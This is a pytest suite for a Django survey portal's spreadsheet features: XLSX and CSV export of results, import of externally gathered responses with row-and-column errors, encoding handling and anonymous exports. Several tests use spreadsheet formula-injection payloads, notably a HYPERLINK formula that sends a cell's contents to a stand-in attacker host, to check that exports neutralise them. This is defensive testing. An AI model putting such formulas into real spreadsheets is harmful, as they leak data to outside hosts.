"""Survey results as files: the XLSX summary and raw sheets, the raw CSV, and the import of
responses gathered outside the portal (round trip, errors by row and column, all or nothing)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from surveys import services
from surveys.models import Answer, Invitation, Question, Response, Survey
from surveys.selectors import survey_response_rate, survey_results
from surveys.services.responses import ResponsesIncomplete
from surveys.spreadsheets import (
    META_COLUMNS,
    ParsedResponse,
    ResponsesFileError,
    responses_file_parse,
    results_to_csv,
    results_to_xlsx,
)
from vkr_portal.fileformats import RowError

from .test_selectors import AKUT, INTE, VARDEFULLT, answer, build_known, build_round, municipality

pytestmark = pytest.mark.django_db

SYMTOM = "Palliativ vård: Symtomlindring och behandling"


@pytest.fixture
def known(world):
    return build_known(world)


def _workbook(round_) -> openpyxl.Workbook:
    survey = round_.survey
    content = results_to_xlsx(survey, survey_results(survey), survey_response_rate(survey))
    return openpyxl.load_workbook(io.BytesIO(content))


def _row_starting(sheet, text: str) -> list:
    for row in sheet.iter_rows(values_only=True):
        if row[0] == text:
            return list(row)
    raise AssertionError(f"no row starts with {text!r}")


def _csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def _upload(text: str, name: str = "svar.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode("utf-8"))


def _errors(survey, upload) -> list[RowError]:
    with pytest.raises(ResponsesFileError) as raised:
        responses_file_parse(survey=survey, uploaded_file=upload)
    return raised.value.errors


def test_the_summary_sheet_has_the_shares_per_question_and_the_response_rate(known):
    summary = _workbook(known)["Sammanfattning"]
    values = [row[0] for row in summary.iter_rows(values_only=True)]
    assert "5 av 7 kommuner har svarat (71\u00a0%)" in values
    assert _row_starting(summary, "Fråga")[1:7] == [
        AKUT, VARDEFULLT, "Intressant, ej nödvändigt", INTE, "Antal svar", "Utan svar",
    ]  # fmt: skip
    assert _row_starting(summary, SYMTOM)[1:7] == [0.25, 0.5, 0.25, 0, 4, 1]
    upplagg = _row_starting(summary, "Upplägg av utbildning")
    assert upplagg[1:8] == [0.75, 0.5, 0, 0.25, 0, 4, 1]
    assert sum(upplagg[1:6]) == 1.5
    assert "Andelar per svarande, kan summera till mer än 100 %." in values
    assert _row_starting(summary, "Hur många dagar per år?")[1:7] == [4, 5.25, 4.5, 2, 10, 1]
    assert _row_starting(summary, "Sår och sårvård, kardiologi")[1] == "Arvika kommun"
    cell = next(c for row in summary.iter_rows() for c in row if c.value == 0.25)
    assert cell.number_format == "0%"


def test_the_raw_sheet_has_one_row_per_submitted_response(known):
    raw = _workbook(known)["Svar"]
    rows = list(raw.iter_rows(values_only=True))
    header = list(rows[0])
    assert header[: len(META_COLUMNS)] == META_COLUMNS
    assert SYMTOM in header and "Upplägg av utbildning" in header
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    # Lekeberg's draft and Askersund who did not start are not there.
    assert sorted(by_name) == [
        "Arvika kommun", "Hallsbergs kommun", "Karlstads kommun", "Kumla kommun", "Örebro kommun",
    ]  # fmt: skip
    arvika = by_name["Arvika kommun"]
    assert (arvika["Organisation kod"], arvika["Roll"], arvika["Typ"]) == ("1784", "MAS", "Kommun")
    assert arvika[SYMTOM] == AKUT
    assert arvika["Upplägg av utbildning"] == "Distans; På plats"
    assert arvika["Kan ni betala kursavgift?"] == "Ja"
    assert arvika["Hur många dagar per år?"] == 2
    assert by_name["Kumla kommun"]["Län"] == "Örebro län"


def test_the_csv_is_the_raw_sheet_semicolon_separated_with_a_bom(known):
    rows = _csv_rows(results_to_csv(known.survey))
    header = rows[0]
    assert header[:2] == ["Organisation", "Organisation kod"]
    karlstad = dict(zip(header, next(r for r in rows if r[0] == "Karlstads kommun"), strict=True))
    assert karlstad["Upplägg av utbildning"] == "Distans; Föreläsningar"
    assert karlstad["Palliativ vård: Munvård vid palliativ omvårdnad"] == INTE
    assert len(rows) == 6


def test_the_csv_guards_against_formulas_and_writes_decimal_commas(world):
    round_ = build_round(world)
    answer(round_, world.organisations["arvika"], behov="=HYPERLINK(\"http://x\")",
           dagar=Decimal("2.5"))  # fmt: skip
    header, row = _csv_rows(results_to_csv(round_.survey))
    cells = dict(zip(header, row, strict=True))
    assert cells["Finns det något kompetensutvecklingsbehov som ej är listat?"].startswith("'=")
    assert cells["Hur många dagar per år?"] == "2,50"
    content = results_to_xlsx(
        round_.survey, survey_results(round_.survey), survey_response_rate(round_.survey)
    )
    raw = openpyxl.load_workbook(io.BytesIO(content))["Svar"]
    assert all(cell.data_type != "f" for row in raw.iter_rows() for cell in row)


def _results_table(survey) -> list:
    """What the results say, independent of ids: for comparing two surveys."""
    table = []
    for theme in survey_results(survey).themes:
        for block in theme.blocks:
            if block.kind == "scale":
                table += [(i.question.text, [(s.label, s.count) for s in i.shares], i.n)
                          for i in block.items]  # fmt: skip
            elif block.kind == "choice":
                table.append((block.question.text, [(s.label, s.count) for s in block.shares]))
            elif block.kind == "number":
                table.append((block.question.text, block.n, block.mean, block.median))
            else:
                table.append(
                    (block.question.text, [(a.organisation, a.text) for a in block.answers])
                )
    return table


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_responses_import_into_another_survey_with_the_same_results(known, world, fmt):
    if fmt == "csv":
        upload = _upload(results_to_csv(known.survey))
    else:
        survey = known.survey
        content = results_to_xlsx(survey, survey_results(survey), survey_response_rate(survey))
        upload = SimpleUploadedFile("resultat.xlsx", content)
    copy = build_round(world, title="Samma enkät, insamlad via e-post")
    rows = responses_file_parse(survey=copy.survey, uploaded_file=upload)
    assert [row.line for row in rows] == [2, 3, 4, 5, 6]
    imported = services.responses_import(
        survey=copy.survey, rows=rows, by=world.users["secretariat"]
    )
    assert (imported.count, imported.drafts_replaced, imported.incomplete) == (5, [], 0)
    assert _results_table(copy.survey) == _results_table(known.survey)
    imported = Response.objects.get(survey=copy.survey, organisation__code="1784")
    assert imported.status == Response.Status.SUBMITTED and imported.submitted_at
    assert (imported.respondent_name, imported.respondent_role) == ("Maria MAS", "mas")
    assert imported.invitation.token_hash is None  # an invitation without a link
    assert Response.objects.filter(survey=copy.survey, status="submitted").count() == 5


def test_a_comma_separated_file_with_only_the_code_and_some_questions_imports(world):
    round_ = build_round(world)
    uppsala = municipality(world, "0380", "Uppsala kommun", "03", "Uppsala län")
    text = (
        f'Organisation kod,Namn,Roll,"{SYMTOM}",Upplägg av utbildning,Hur många dagar per år?\n'
        f'380,Anna,verksamhetschef,värdefullt,Distans;Seminarium,"3,5"\n'
    )
    [row] = responses_file_parse(survey=round_.survey, uploaded_file=_upload(text))
    # Excel drops the leading zero of 0380; the import finds Uppsala anyway.
    assert row.organisation == uppsala
    assert row.respondent_role == "verksamhetschef"
    assert row.answers[round_.questions["symtom"].pk] == round_.step(VARDEFULLT)
    assert [o.label for o in row.answers[round_.questions["upplagg"].pk]] == [
        "Distans", "Seminarium",
    ]  # fmt: skip
    assert row.answers[round_.questions["dagar"].pk] == Decimal("3.5")


def test_every_error_is_named_by_row_and_column_and_nothing_is_saved(known, world):
    copy = build_round(world, title="Andra omgången")
    answer(copy, world.organisations["orebro"], symtom=AKUT)  # submitted already
    responses, invitations = Response.objects.count(), Invitation.objects.count()
    text = "\n".join([
        f"Organisation kod;Namn;Roll;{SYMTOM};Upplägg av utbildning;"
        "Hur samverkar lärosätet med kommunerna?;Kan ni betala kursavgift?",
        f"1784;Anna;MAS;{AKUT};Distans;;Ja",
        "9999;;;;;;",
        "2480;;;;;;",
        '1780;;;Mycket viktigt;"Distans; Webbinarium";;Kanske',
        "1881;;Chef;;;Vi samverkar;",
        "1784;;;;;;",
        "1880;;;;;;",
    ])  # fmt: skip
    errors = _errors(copy.survey, _upload(text))
    found = {(e.row, e.column): e.message for e in errors}
    assert found.keys() == {
        (3, "Organisation kod"), (4, "Organisation kod"), (5, SYMTOM),
        (5, "Upplägg av utbildning"), (5, "Kan ni betala kursavgift?"), (6, "Roll"),
        (6, "Hur samverkar lärosätet med kommunerna?"), (7, "Organisation kod"),
        (8, "Organisation kod"),
    }  # fmt: skip
    assert "9999" in found[3, "Organisation kod"]
    assert "Umeå kommun hör inte till rådets sjukvårdsregion" in found[4, "Organisation kod"]
    assert "”Mycket viktigt”" in found[5, SYMTOM] and AKUT in found[5, SYMTOM]
    assert "”Webbinarium”" in found[5, "Upplägg av utbildning"]
    assert "Kumla kommun" in found[6, "Hur samverkar lärosätet med kommunerna?"]
    assert "rad 2" in found[7, "Organisation kod"]
    assert "redan skickat in" in found[8, "Organisation kod"]
    assert str(errors[0]).startswith("Rad 3, kolumn ”Organisation kod”: ")
    assert (Response.objects.count(), Invitation.objects.count()) == (responses, invitations)


def test_unknown_and_missing_columns_are_named(known):
    errors = _errors(known.survey, _upload("Namn;Vilken färg?\nAnna;Blå\n"))
    assert [(e.row, e.column) for e in errors] == [(1, "Vilken färg?"), (1, None)]
    assert "Organisation kod" in errors[1].message


@pytest.mark.parametrize(
    ("name", "content"),
    [("svar.xlsx", b"not a zip"), ("svar.pdf", b"%PDF"), ("svar.csv", b"")],
    ids=["broken-xlsx", "pdf", "empty"],
)
def test_a_file_that_cannot_be_read_is_refused_with_a_message(known, name, content):
    [error] = _errors(known.survey, SimpleUploadedFile(name, content))
    assert error.row is None and error.message


def test_the_service_refuses_an_organisation_that_has_submitted_and_saves_nothing(known, world):
    kumla = known.organisations["kumla"]
    degerfors = municipality(world, "1862", "Degerfors kommun", "18", "Örebro län")
    responses = Response.objects.count()
    rows = [ParsedResponse(2, degerfors), ParsedResponse(3, kumla)]
    with pytest.raises(ValidationError) as raised:
        services.responses_import(survey=known.survey, rows=rows, by=None)
    assert raised.value.messages == ["Rad 3: Kumla kommun har redan skickat in svar på enkäten."]
    assert Response.objects.count() == responses
    assert not Invitation.objects.filter(organisation=degerfors).exists()


def test_an_import_replaces_a_draft_and_keeps_the_invitation(known):
    lekeberg = known.organisations["lekeberg"]
    invitation = known.survey.invitations.get(organisation=lekeberg)
    draft = Response.objects.get(survey=known.survey, organisation=lekeberg)
    text = f"Organisation kod;{SYMTOM}\n1814;{AKUT}\n"
    rows = responses_file_parse(survey=known.survey, uploaded_file=_upload(text))
    services.responses_import(survey=known.survey, rows=rows, by=None)
    draft.refresh_from_db()
    assert draft.status == Response.Status.SUBMITTED
    assert draft.invitation == invitation
    assert list(Answer.objects.filter(response=draft).values_list("step__label", flat=True)) == [
        AKUT
    ]


# --- Every exported cell is text, the header too --------------------------------------------

FORMULA = '=HYPERLINK("http://angripare.example/?"&A2;"Klicka här")'


def _reword(round_, key: str, text: str) -> None:
    # The wording can be edited after answers have come in, and heads the raw sheet's column.
    Question.objects.filter(pk=round_.questions[key].pk).update(text=text)


def test_the_csv_header_built_from_question_wording_is_guarded(world):
    round_ = build_round(world)
    answer(round_, world.organisations["arvika"], symtom=AKUT, behov="@SUMMA(1+1)")
    _reword(round_, "behov", FORMULA)
    rows = _csv_rows(results_to_csv(round_.survey))
    assert "'" + FORMULA in rows[0]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_every_cell_of_every_sheet_of_the_workbook_is_text(world):
    round_ = build_round(world)
    answer(round_, world.organisations["arvika"], symtom=AKUT, behov="=1+1")
    _reword(round_, "behov", FORMULA)
    workbook = _workbook(round_)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_guarded_headers_and_answers_read_back_as_they_were_written(world, fmt):
    round_ = build_round(world)
    texts = {"arvika": "'=inte en formel", "orebro": "+46 19 21 10 00"}
    for key, text in texts.items():
        answer(round_, world.organisations[key], symtom=AKUT, behov=text)
    _reword(round_, "behov", FORMULA)
    survey = round_.survey
    if fmt == "csv":
        upload = _upload(results_to_csv(survey))
    else:
        content = results_to_xlsx(survey, survey_results(survey), survey_response_rate(survey))
        upload = SimpleUploadedFile("svar.xlsx", content)
    copy = build_round(world, title="Kopia")
    _reword(copy, "behov", FORMULA)
    rows = responses_file_parse(survey=copy.survey, uploaded_file=upload)
    behov = copy.questions["behov"].pk
    read = {row.organisation.code: row.answers[behov] for row in rows}
    assert read == {"1784": texts["arvika"], "1880": texts["orebro"]}


# --- Anonymous results: no export ties free text to an organisation --------------------------


BEHOV = "Finns det något kompetensutvecklingsbehov som ej är listat?"
NAMES = ["Arvika", "Örebro kommun", "Karlstad", "1784", "1880", "1780"]


@pytest.fixture
def anonymous(world):
    """Three municipalities answer a survey whose results are anonymous."""
    round_ = build_round(world)
    karlstad = municipality(world, "1780", "Karlstads kommun", "17", "Värmlands län")
    for organisation, step, text in [
        (world.organisations["arvika"], AKUT, "Sår och sårvård"),
        (world.organisations["orebro"], VARDEFULLT, "Läkemedel och äldre"),
        (karlstad, VARDEFULLT, "Demens"),
    ]:
        answer(round_, organisation, symtom=step, behov=text)
    Survey.objects.filter(pk=round_.survey.pk).update(results_anonymous=True)
    round_.survey.refresh_from_db()
    return round_


def test_an_anonymous_survey_exports_the_summary_as_csv(anonymous):
    text = results_to_csv(anonymous.survey)
    header, *rows = _csv_rows(text)
    assert header == ["Fråga", "Svar", "Antal", "Andel (%)"]
    assert rows[:4] == [
        [SYMTOM, AKUT, "1", "33"], [SYMTOM, VARDEFULLT, "2", "67"],
        [SYMTOM, "Intressant, ej nödvändigt", "0", "0"], [SYMTOM, INTE, "0", "0"],
    ]  # fmt: skip
    assert sorted(row[1] for row in rows if row[0] == BEHOV) == [
        "Demens", "Läkemedel och äldre", "Sår och sårvård",
    ]  # fmt: skip
    assert not [name for name in NAMES if name in text]


def test_an_anonymous_survey_exports_a_workbook_without_the_sheet_of_responses(anonymous):
    workbook = _workbook(anonymous)
    assert workbook.sheetnames == ["Sammanfattning"]
    rows = [list(row) for row in workbook.active.iter_rows(values_only=True)]
    values = [str(value) for row in rows for value in row if value is not None]
    assert not [value for value in values if any(name in value for name in NAMES)]
    start = next(index for index, row in enumerate(rows) if row[0] == BEHOV)
    assert [value for value in rows[start] if value] == [BEHOV]  # no column of organisations
    listed = [row[0] for row in rows[start + 1 : start + 4]]
    # In the order the results give, which is theirs to choose (not by organisation).
    [block] = [
        b for theme in survey_results(anonymous.survey).themes for b in theme.blocks
        if getattr(b, "question", None) and b.question.text == BEHOV
    ]  # fmt: skip
    assert listed == [a.text for a in block.answers]


# --- Reading responses back ---------------------------------------------------------------------


def test_a_row_with_only_the_organisation_is_refused(world):
    round_ = build_round(world)
    text = f"Organisation kod;Namn;Roll;{SYMTOM}\n1784;Anna;MAS;\n1880;;;{AKUT}\n"
    [error] = _errors(round_.survey, _upload(text))
    assert (error.row, error.column) == (2, None)
    assert "inga svar" in error.message


def test_a_scale_cell_takes_the_step_or_its_number(world):
    round_ = build_round(world)
    text = f"Organisation kod;{SYMTOM}\n1784;2\n1880;7\n"
    [error] = _errors(round_.survey, _upload(text))
    assert (error.row, error.column) == (3, SYMTOM)
    assert "1–4" in error.message
    [row] = responses_file_parse(
        survey=round_.survey, uploaded_file=_upload(f"Organisation kod;{SYMTOM}\n1784;2\n")
    )
    assert row.answers[round_.questions["symtom"].pk] == round_.step(VARDEFULLT)


def test_a_bad_multiple_choice_names_the_semicolon(world):
    round_ = build_round(world)
    text = 'Organisation kod;Upplägg av utbildning\n1784;"Distans, På plats"\n'
    [error] = _errors(round_.survey, _upload(text))
    assert "semikolon (;)" in error.message


def test_required_questions_left_blank_are_for_the_secretariat_to_decide(world):
    round_ = build_round(world)
    for key in ("symtom", "munvard"):
        Question.objects.filter(pk=round_.questions[key].pk).update(required=True)
    text = f"Organisation kod;{SYMTOM};Upplägg av utbildning\n1784;{AKUT};Distans\n1880;;Distans\n"
    rows = responses_file_parse(survey=round_.survey, uploaded_file=_upload(text))
    with pytest.raises(ResponsesIncomplete) as raised:
        services.responses_import(survey=round_.survey, rows=rows)
    blank = {line: {q.text for q in questions} for line, _org, questions in raised.value.rows}
    munvard = "Palliativ vård: Munvård vid palliativ omvårdnad"
    assert blank == {2: {munvard}, 3: {SYMTOM, munvard}}
    assert not Response.objects.filter(survey=round_.survey).exists()
    imported = services.responses_import(survey=round_.survey, rows=rows, allow_incomplete=True)
    assert (imported.count, imported.incomplete) == (2, 2)


def test_the_same_file_a_second_time_imports_nothing_and_says_so(world):
    round_ = build_round(world)
    text = f"Organisation kod;{SYMTOM}\n1784;{AKUT}\n1880;{VARDEFULLT}\n"
    rows = responses_file_parse(survey=round_.survey, uploaded_file=_upload(text))
    services.responses_import(survey=round_.survey, rows=rows)
    before = list(Answer.objects.filter(response__survey=round_.survey).values_list("pk", "step"))
    [error] = _errors(round_.survey, _upload(text))
    assert "redan importerad" in error.message and "inget svar som finns är ändrat" in error.message
    after = list(Answer.objects.filter(response__survey=round_.survey).values_list("pk", "step"))
    assert after == before
    # One new organisation among them: the others are named, and nothing is overwritten.
    karlstad = municipality(world, "1780", "Karlstads kommun", "17", "Värmlands län")
    errors = _errors(round_.survey, _upload(text + f"{karlstad.code};{AKUT}\n"))
    assert [(e.row, "skriver inte över" in e.message) for e in errors] == [(2, True), (3, True)]


def test_an_import_that_replaces_a_draft_says_whose(known):
    text = f"Organisation kod;{SYMTOM}\n1814;{AKUT}\n"
    rows = responses_file_parse(survey=known.survey, uploaded_file=_upload(text))
    imported = services.responses_import(survey=known.survey, rows=rows)
    assert imported.drafts_replaced == ["Lekebergs kommun"]


# --- CSV files as they come --------------------------------------------------------------------

CSV_TEXT = f"Organisation kod;Namn;{SYMTOM}\n1784;Åsa Öberg;{AKUT}\n"


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xfe" + CSV_TEXT.encode("utf-16-le"),
        b"\xfe\xff" + CSV_TEXT.encode("utf-16-be"),
        b"\xef\xbb\xbf" + CSV_TEXT.encode(),
        CSV_TEXT.encode(),
        CSV_TEXT.encode("cp1252"),
    ],
    ids=["utf-16-le", "utf-16-be", "utf-8-bom", "utf-8", "windows-1252"],
)
def test_a_csv_is_read_in_the_encodings_excel_and_notepad_save(world, data):
    round_ = build_round(world)
    [row] = responses_file_parse(survey=round_.survey, uploaded_file=_upload_bytes(data))
    assert row.respondent_name == "Åsa Öberg"


def _upload_bytes(data: bytes, name: str = "svar.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8,
        CSV_TEXT.encode("utf-16-le"),  # without its byte order mark
        b"Organisation kod;Namn\n1784;\x81\x8d\x8f\n",  # not Windows-1252 either
    ],
    ids=["binary", "utf-16-without-bom", "undecodable"],
)
def test_a_csv_that_is_not_text_is_refused_as_a_broken_xlsx_is(world, data):
    round_ = build_round(world)
    [error] = _errors(round_.survey, _upload_bytes(data))
    assert error.row is None and "kunde inte läsas som en CSV-fil" in error.message


def test_a_field_past_what_csv_reads_is_refused_with_its_row(world):
    round_ = build_round(world)
    text = f"Organisation kod;Namn;{SYMTOM}\n1784;Anna;{AKUT}\n1880;{'x' * 200_000};{AKUT}\n"
    [error] = _errors(round_.survey, _upload(text))
    assert "från rad 3" in error.message and len(error.message) < 300


def test_an_answer_longer_than_an_answer_holds_is_named_by_row_and_column(world):
    round_ = build_round(world)
    behov = "Finns det något kompetensutvecklingsbehov som ej är listat?"
    text = f"Organisation kod;{behov}\n1784;{'x' * 5000}\n"
    [error] = _errors(round_.survey, _upload(text))
    assert (error.row, error.column) == (2, behov) and "5\xa0000 tecken" in error.message
